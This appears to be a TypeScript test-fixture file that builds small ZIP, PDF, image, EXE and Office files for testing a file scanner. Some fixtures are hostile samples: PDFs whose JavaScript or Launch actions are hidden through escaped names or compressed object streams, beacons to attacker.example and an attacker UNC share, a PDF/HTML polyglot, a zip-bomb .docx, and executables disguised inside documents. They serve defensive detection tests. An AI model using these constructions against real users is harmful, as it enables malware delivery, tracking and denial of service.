import { constants, crc32, createDeflateRaw, deflateRawSync, deflateSync } from 'node:zlib';

/** Small real files for tests: a stored (uncompressed) ZIP, PDFs, PNG and JPEG headers, an EXE. */
export function zip(entries: Record<string, string>): Buffer {
  return zipOf(Object.entries(entries).map(([name, text]) => ({ name, data: Buffer.from(text) })));
}

/** One ZIP entry: its bytes, deflated when asked, or given already deflated with the size they expand to. */
export interface ZipEntry {
  name: string;
  data?: Buffer;
  deflate?: boolean;
  deflated?: { bytes: Buffer; size: number; crc: number };
  /** Sizes and CRC after the data, in a signed data descriptor, as streaming writers (Java, WPS) do. */
  descriptor?: boolean;
}

/** A ZIP of the entries, stored or deflated. */
export function zipOf(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const nameBuf = Buffer.from(entry.name);
    const plain = entry.data ?? Buffer.alloc(0);
    const method = entry.deflate || entry.deflated ? 8 : 0;
    const data = entry.deflated?.bytes ?? (entry.deflate ? deflateRawSync(plain) : plain);
    const size = entry.deflated?.size ?? plain.length;
    const crc = entry.deflated?.crc ?? crc32(plain);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(entry.descriptor ? 0x08 : 0, 6);
    local.writeUInt16LE(method, 8);
    if (!entry.descriptor) {
      local.writeUInt32LE(crc, 14);
      local.writeUInt32LE(data.length, 18);
      local.writeUInt32LE(size, 22);
    }
    local.writeUInt16LE(nameBuf.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(entry.descriptor ? 0x08 : 0, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(nameBuf.length, 28);
    central.writeUInt32LE(offset, 42);
    const descriptor = Buffer.alloc(entry.descriptor ? 16 : 0);
    if (entry.descriptor) {
      descriptor.writeUInt32LE(0x08074b50, 0);
      descriptor.writeUInt32LE(crc, 4);
      descriptor.writeUInt32LE(data.length, 8);
      descriptor.writeUInt32LE(size, 12);
    }
    locals.push(local, nameBuf, data, descriptor);
    centrals.push(central, nameBuf);
    offset += 30 + nameBuf.length + data.length + descriptor.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(centrals.length / 2, 8);
  end.writeUInt16LE(centrals.length / 2, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

/** `bytes` zeros, deflated as a stream (never held expanded): the body of a "zip bomb". */
export async function deflatedZeros(bytes: number): Promise<{ bytes: Buffer; size: number; crc: number }> {
  const deflate = createDeflateRaw({ level: constants.Z_BEST_COMPRESSION });
  const parts: Buffer[] = [];
  deflate.on('data', (c: Buffer) => parts.push(c));
  const done = new Promise((resolve) => deflate.on('end', resolve));
  const block = Buffer.alloc(1024 * 1024);
  let crc = 0;
  for (let left = bytes; left > 0; left -= block.length) {
    const piece = left >= block.length ? block : block.subarray(0, left);
    crc = crc32(piece, crc);
    if (!deflate.write(piece)) await new Promise((r) => deflate.once('drain', r));
  }
  deflate.end();
  await done;
  return { bytes: Buffer.concat(parts), size: bytes, crc };
}

/** A PDF of numbered objects (a stream when `stream` is given, with /Length added) and a trailer. */
export function pdfOf(objects: Array<{ dict: string; stream?: Buffer }>, trailer = '<< /Root 1 0 R >>'): Buffer {
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1'),
    ...objects.flatMap(({ dict, stream }, i) =>
      stream
        ? [Buffer.from(`${i + 1} 0 obj\n<< ${dict} /Length ${stream.length} >>\nstream\r\n`, 'latin1'), stream, Buffer.from('\nendstream\nendobj\n', 'latin1')]
        : [Buffer.from(`${i + 1} 0 obj\n${dict}\nendobj\n`, 'latin1')],
    ),
    Buffer.from(`trailer ${trailer}\n%%EOF\n`, 'latin1'),
  ]);
}

const objectStream = (objects: string) => {
  const body = `5 0 6 ${objects.indexOf('<<', 2)} `;
  return { header: body, text: body + objects };
};

const contentTypes = (part: string, type: string) =>
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  `<Override PartName="${part}" ContentType="application/vnd.${type.startsWith('ms-') ? type : `openxmlformats-officedocument.${type}`}+xml"/></Types>`;

export const testFiles = {
  pdf: (body = '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj') =>
    Buffer.from(`%PDF-1.7\n${body}\ntrailer << /Root 1 0 R >>\n%%EOF\n`, 'latin1'),
  pdfWithJs: () => testFiles.pdf('1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj'),
  pdfWithEscapedLaunch: () => testFiles.pdf('1 0 obj << /Type /Action /S /L#61unch /F (cmd.exe) >> endobj'),
  /** The JavaScript action inside a Flate-compressed object stream (PDF 1.5), invisible to a byte scan. */
  pdfWithHiddenJs: () => {
    const hidden = deflateSync(Buffer.from('4 0 << /Type /Action /S /JavaScript /JS (app.alert(1)) >>', 'latin1'));
    return Buffer.concat([
      Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${hidden.length} >>\nstream\n`, 'latin1'),
      hidden,
      Buffer.from('\nendstream\nendobj\ntrailer << /Root 5 0 R >>\n%%EOF\n', 'latin1'),
    ]);
  },
  png: () => Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(64, 1)]),
  jpeg: () => Buffer.concat([Buffer.from('ffd8ffe000104a46494600', 'hex'), Buffer.alloc(64, 2)]),
  exe: () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64), Buffer.from('PE\0\0'), Buffer.alloc(64)]),
  ofd: () => zip({ 'OFD.xml': '<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0"/>', 'Doc_0/Document.xml': '<ofd:Document/>' }),
  docx: () => zip({ '[Content_Types].xml': contentTypes('/word/document.xml', 'wordprocessingml.document.main'), 'word/document.xml': '<w:document/>' }),
  docm: () => zip({ '[Content_Types].xml': contentTypes('/word/document.xml', 'ms-word.document.macroEnabled.main'), 'word/document.xml': '<w:document/>' }),
  /** A real-world-like PDF: pages with Flate content, an outline and /Link annotations to destinations in the file. */
  pdfWithInternalLinks: () =>
    pdfOf([
      { dict: '<< /Type /Catalog /Pages 2 0 R /Outlines 7 0 R /OpenAction [3 0 R /Fit] /PageMode /UseOutlines /Names << /Dests 9 0 R >> >>' },
      { dict: '<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>' },
      { dict: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Annots [6 0 R 10 0 R] /Resources << /Font << /F1 8 0 R >> >> >>' },
      { dict: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /AA << /O << /S /GoTo /D [3 0 R /XYZ 0 842 0] >> >> >>' },
      { dict: '/Filter /FlateDecode', stream: deflateSync(Buffer.from('BT /F1 12 Tf 72 770 Td (Contents: see page 2) Tj ET', 'latin1')) },
      { dict: '<< /Type /Annot /Subtype /Link /Rect [72 760 300 780] /Border [0 0 0] /A << /S /GoTo /D (chapter2) >> >>' },
      { dict: '<< /Type /Outlines /First 11 0 R /Last 11 0 R /Count 1 >>' },
      { dict: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>' },
      { dict: '<< /Names [(chapter2) [4 0 R /Fit]] >>' },
      { dict: '<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Dest [4 0 R /Fit] /StructParent 1 >>' },
      { dict: '<< /Title (第二章) /Parent 7 0 R /Dest [4 0 R /XYZ 0 842 0] /S /P >>' },
    ]),
  /** JavaScript in an object stream whose filter name is `#`-escaped: /Fl#61teDecode. */
  pdfWithEscapedFilterJs: () => {
    const o = objectStream('<< /Type /Catalog /OpenAction 6 0 R >> << /Type /Action /S /JavaScript /JS (app.launchURL("http://x")) >>');
    return pdfOf([{ dict: '<< /Type /Catalog /Pages 2 0 R >>' }, { dict: `/Type /ObjStm /N 2 /First ${o.header.length} /Filter /Fl#61teDecode`, stream: deflateSync(Buffer.from(o.text, 'latin1')) }]);
  },
  /** JavaScript in an ASCIIHex-encoded object stream. */
  pdfWithHexJs: () => {
    const o = objectStream('<< /Type /Catalog /OpenAction 6 0 R >> << /S /JavaScript /JS (app.alert(1)) >>');
    return pdfOf([{ dict: '<< /Type /Catalog /Pages 2 0 R >>' }, { dict: `/Type /ObjStm /N 2 /First ${o.header.length} /Filter /ASCIIHexDecode`, stream: Buffer.from(Buffer.from(o.text, 'latin1').toString('hex') + '>') }]);
  },
  pdfOpenActionUri: () => testFiles.pdf('1 0 obj << /Type /Catalog /OpenAction << /S /URI /URI (http://attacker.example/track) >> >> endobj'),
  pdfOpenActionGoToR: () => testFiles.pdf('1 0 obj << /Type /Catalog /OpenAction << /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >> >> endobj'),
  /** A PDF whose bytes go on, after %%EOF, with a ZIP holding an .exe. */
  pdfWithAppendedZip: () => Buffer.concat([testFiles.pdf(), zipOf([{ name: 'setup.exe', data: testFiles.exe() }])]),
  /** A PDF that is also an HTML page: the script sits in a comment within the first KiB. */
  pdfHtmlPolyglot: () => testFiles.pdf('%<html><script>alert(document.domain)</script></html>\n1 0 obj << /Type /Catalog >> endobj'),
  /** A .docx whose document part expands to `bytes` zeros (256 MiB by default), a few hundred KiB uploaded. */
  zipBombDocx: async (bytes = 256 * 1024 * 1024) =>
    zipOf([
      { name: '[Content_Types].xml', data: Buffer.from(contentTypes('/word/document.xml', 'wordprocessingml.document.main')) },
      { name: 'word/document.xml', deflated: await deflatedZeros(bytes) },
    ]),
  /** A .docx (ordinary content types) that carries a VBA project. */
  docxWithVba: () =>
    zipOf([
      { name: '[Content_Types].xml', data: Buffer.from(contentTypes('/word/document.xml', 'wordprocessingml.document.main')) },
      { name: 'word/document.xml', data: Buffer.from('<w:document/>'), deflate: true },
      { name: 'word/vbaProject.bin', data: Buffer.from('d0cf11e0a1b11ae1', 'hex'), deflate: true },
    ]),
  /** A .docx with a program in it under an innocent name. */
  docxWithExe: () =>
    zipOf([
      { name: '[Content_Types].xml', data: Buffer.from(contentTypes('/word/document.xml', 'wordprocessingml.document.main')) },
      { name: 'word/document.xml', data: Buffer.from('<w:document/>'), deflate: true },
      { name: 'word/media/image1.png', data: testFiles.exe(), deflate: true },
    ]),
  /** An ordinary .docx, deflated as Word writes it. */
  docxDeflated: () =>
    zipOf([
      { name: '[Content_Types].xml', data: Buffer.from(contentTypes('/word/document.xml', 'wordprocessingml.document.main')), deflate: true },
      { name: 'word/document.xml', data: Buffer.from(`<w:document><w:body>${'<w:p><w:r><w:t>首台（套）重大技术装备</w:t></w:r></w:p>'.repeat(500)}</w:body></w:document>`), deflate: true },
    ]),
  xlsx: () => zip({ '[Content_Types].xml': contentTypes('/xl/workbook.xml', 'spreadsheetml.sheet.main'), 'xl/workbook.xml': '<workbook/>' }),
};
